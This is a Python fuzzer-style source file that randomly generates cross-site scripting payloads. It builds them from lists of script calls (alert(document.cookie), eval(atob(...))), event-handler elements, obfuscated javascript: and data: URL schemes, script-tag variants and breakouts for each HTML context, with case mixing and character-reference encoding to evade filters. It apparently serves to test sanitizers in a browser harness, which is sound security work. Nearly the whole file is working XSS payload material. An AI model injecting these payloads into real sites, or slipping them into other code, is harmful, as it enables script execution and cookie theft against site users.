"""Script injections by a small grammar of our own, after the parsing rules of the HTML specification.

`attack(random)` yields (value, place): the page that the value was made for; see browser.py. Whether script runs is not
decided here: the browser is asked.
"""
import random as random_module

# What to run; the page's functions of these names report that they were called.
CALLS = ["alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "print()", "alert(document.cookie)", "(alert)(1)",
         "window['alert'](1)", "top['al'+'ert'](1)", "self.alert(1)", "eval('alert(1)')", "[1].map(alert)", "alert?.(1)",
         "setTimeout('alert(1)')", "Function('alert(1)')()", "new Function`alert\\x601\\x60`()", "eval(atob('YWxlcnQoMSk='))",
         "a=alert,a(1)", "throw onerror=alert,1", "{onerror=alert}throw 1", "alert.call(null,1)", "Reflect.apply(alert,null,[1])",
         "location='javascript:alert(1)'", "import('data:text/javascript,alert(1)')", "parent.alert(1)", "globalThis.alert(1)",
         "window.onerror=alert;throw 1", "\\u0061lert(1)", "eval('\\x61lert(1)')", "self[`al`+`ert`](1)", "void alert(1)"]
# Elements and the events that happen to them by themselves, or when someone points, clicks or types.
EVENTS = [
    ("img", "src=x", "onerror"), ("img", "src", "onerror"), ("image", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("iframe", "", "onload"), ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"), ("a", "href=#", "onclick"), ("div", "", "onclick"),
    ("b", "", "onmouseover"), ("details", "open", "ontoggle"), ("marquee", "", "onstart"), ("object", "data=x", "onerror"),
    ("embed", "src=//x", "onload"), ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"), ("button", "", "onclick"),
    ("form", "", "onsubmit"), ("keygen", "autofocus", "onfocus"), ("p", "", "onmouseenter"), ("x", "contenteditable", "oninput"),
    ("div", "tabindex=1", "onfocusin"), ("span", "", "onpointerdown"), ("isindex", "autofocus", "onfocus"), ("math", "", "onclick"),
    ("xss", "", "onwheel"), ("td", "", "ondblclick"), ("label", "", "onkeydown"), ("custom-tag", "", "onauxclick"),
    ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("svg><a", "", "onclick"), ("video><source", "src=x", "onerror"),
    ("picture><img", "src=x", "onerror"), ("i", "style=animation:x", "onanimationstart"), ("p", "", "oncopy"), ("p", "", "ondrag"),
    ("input", "", "onchange"), ("input", "", "onbeforeinput"), ("div", "", "ontransitionend"), ("body", "", "onhashchange"),
    ("body", "", "onpageshow"), ("dialog", "open", "onclose"), ("track", "src=x", "onerror"), ("p", "", "oncontextmenu"),
]
ADDRESSES = [("a", "href"), ("area", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"),
             ("input type=submit", "formaction"), ("svg><a", "xlink:href"), ("svg><a", "href"), ("math", "href"), ("embed", "src"),
             ("object", "data"), ("frameset><frame", "src"), ("input type=image", "formaction"), ("base", "href"), ("link rel=import", "href")]
SCHEMES = ["javascript:", "JaVaScRiPt:", "javascript&colon;", "java&Tab;script:", "java&NewLine;script:", "&#106;avascript:",
           "&#x6A;avascript:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "&#1;javascript:", "javascript&#58;",
           "&#0000106avascript:", "javascript://%0a", "javascript:/**/", "j&#x61vascript:", "java&#9;script:", "&Tab;javascript:",
           "javascript:1;", "javascript:void(0);", "javascript:'<b>';", "data:text/html,<script>{c}</script>#", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#"]
SCRIPTS = ["<script>{c}</script>", "<script >{c}</script >", "<script/x>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<script type=module>{c}</script>",
           "<script\n>{c}</script\n>", "<svg><script>{c}</script></svg>", "<svg><script>{c}", "<script>{c}//", "<script x>{c}</script x>",
           "<script src=data:text/javascript,{c}></script>", "<svg><script href=data:,{c}></script>", "<script a=\">\">{c}</script>",
           "<script>/*</script>*/{c}</script>", "<math><script>{c}</script>", "<script language=javascript>{c}</script>",
           "<template><script>{c}</script></template><script>{c}</script>", "<script\f>{c}</script>", "<script nonce=x>{c}</script>",
           "<iframe srcdoc=\"<script>parent.{c}</script>\">", "<iframe srcdoc='&lt;script&gt;parent.{c}&lt;/script&gt;'>",
           "<object data=\"data:text/html,<script>{c}</script>\">", "<embed src=\"data:text/html,<script>{c}</script>\">"]
# Where the value is printed, and how it gets from there to where a tag can begin or an attribute can be added.
BREAKOUTS = {
    "text": ["", "", "", "x", "<b>", "-->", "</p>", "<!-->", "]]>", "1<2 ", "</title>", "<![CDATA[>", "<!--><!---->", "?>", "<a>"],
    "title": ["</title>", "</TITLE >", "x</title/>"], "textarea": ["</textarea>", "</textarea x>", "a</TextArea\n>"],
    "comment": ["-->", "--!>", ">", "->", "x--><b>"], "style": ["</style>", "</STYLE/>"], "noscript": ["</noscript>", ""],
    "double": ['">', '"/>', 'x">', '" x>', '"><b>', "\"'>"], "single": ["'>", "'/>", "x'>", "'\">"],
    "unquoted": [">", "x>", "/x>", " y>"], "select": ["</select>", "<option>"], "script": ["</script>", "'</script>"],
    "iframe": ["</iframe>"], "xmp": ["</xmp>"],
}
STRING_BREAKOUTS = {"string-single": ["';{c}//", "'-{c}-'", "'+{c}+'", "';{c};'", "\\';{c}//", "'*{c}*'", "',{c},'", "';\n{c}\n//"],
                    "string-double": ['";{c}//', '"-{c}-"', '"+{c}+"', '";{c};"', '"/{c}/"'],
                    "string-template": ["${{c}}", "`;{c}//", "`-{c}-`", "${(()=>{{c}})()}"]}


def space(random):
    return random.choice([" ", " ", " ", "/", "\t", "\n", "\f", "\r", "//", " / ", "\n\n", "/\t"])


def case(text, random):
    kind = random.random()
    if kind < 0.6:
        return text
    return "".join(random.choice((c.lower(), c.upper())) for c in text)


def references(text, random):
    """Some letters as character references, as attribute values may have them."""
    if random.random() < 0.7:
        return text
    out = ""
    for c in text:
        if random.random() < 0.25:
            out += random.choice(["&#%d;", "&#x%x;", "&#%07d;", "&#X%X;"]) % ord(c)
        else:
            out += c
    return out


def quoted(text, random, within=""):
    choices = [q for q in ('"', "'", "") if q not in text or q == ""]
    if within in choices and len(choices) > 1:
        choices.remove(within)
    quote = random.choice(choices)
    if quote == "" and any(c in text for c in " \t\n\f\r>\"'`=<"):
        text = text.replace(" ", "&#32;").replace(">", "&gt;").replace("\n", "&#10;").replace("\t", "&#9;")
    if quote:
        text = text.replace(quote, {'"': "&quot;", "'": "&#39;"}[quote])
    return quote + text + quote


def handler(random):
    call = random.choice(CALLS)
    element, extra, event = random.choice(EVENTS)
    equals = random.choice(["=", "=", "=", " =", "= ", " = ", "\n=", "=\t"])
    parts = [case(event, random) + equals + quoted(references(call, random), random)]
    if extra:
        parts.insert(random.choice([0, 0, 1]), extra)
    if random.random() < 0.2:
        parts.insert(0, random.choice(["x=y", "id=a", "title='a>b'", 'alt="<b>"', "=x", "class", "x='\"'", "data-a=1"]))
    return element, parts


def element(random):
    name, parts = handler(random)
    gap = space(random)
    text = "<" + case(name, random) + gap + space(random).join(parts)
    return text + random.choice([">", ">", ">", "/>", ">x", " >", "\n", "//", "><", ">x</" + name.split(">")[-1] + ">"])


def address(random):
    name, attribute = random.choice(ADDRESSES)
    scheme = random.choice(SCHEMES)
    call = random.choice(CALLS[:20])
    value = scheme.replace("{c}", call) if "{c}" in scheme or scheme.startswith("data:") else scheme + call
    text = "<" + case(name, random) + space(random) + case(attribute, random) + random.choice(["=", "=", " = "]) + quoted(value, random)
    return text + ">x"


def attack(random):
    kind = random.random()
    if kind < 0.10:
        place = random.choice(list(STRING_BREAKOUTS))
        return random.choice(["", "x", "1"]) + random.choice(STRING_BREAKOUTS[place]).replace("{c}", random.choice(CALLS[:20])), place
    if kind < 0.24:
        place = random.choice(["double", "single", "unquoted"])
        quote = {"double": '"', "single": "'", "unquoted": ""}[place]
        _, parts = handler(random)
        parts = [random.choice(["autofocus", "x", "src=x", "tabindex=1", "style=display:block"])] * random.choice([0, 1]) + parts
        tail = {"double": random.choice([' x="', '//', ' "', "", ' a="']), "single": random.choice([" x='", "//", ""]), "unquoted": random.choice(["", " x"])}[place]
        return random.choice(["", "x", "1"]) + quote + space(random) + space(random).join(parts) + tail, place
    if kind < 0.30:
        return random.choice(SCHEMES[:22]).replace("{c}", "alert(1)") + random.choice(CALLS[:20]), "address"
    place = random.choice(["text"] * 8 + list(BREAKOUTS))
    if place == "unquoted" and random.random() < 0.5:
        place = "text"
    lead = random.choice(BREAKOUTS[place])
    kind = random.random()
    if kind < 0.55:
        return lead + element(random), place
    if kind < 0.75:
        return lead + address(random), place
    return lead + random.choice(SCRIPTS).replace("{c}", random.choice(CALLS)), place
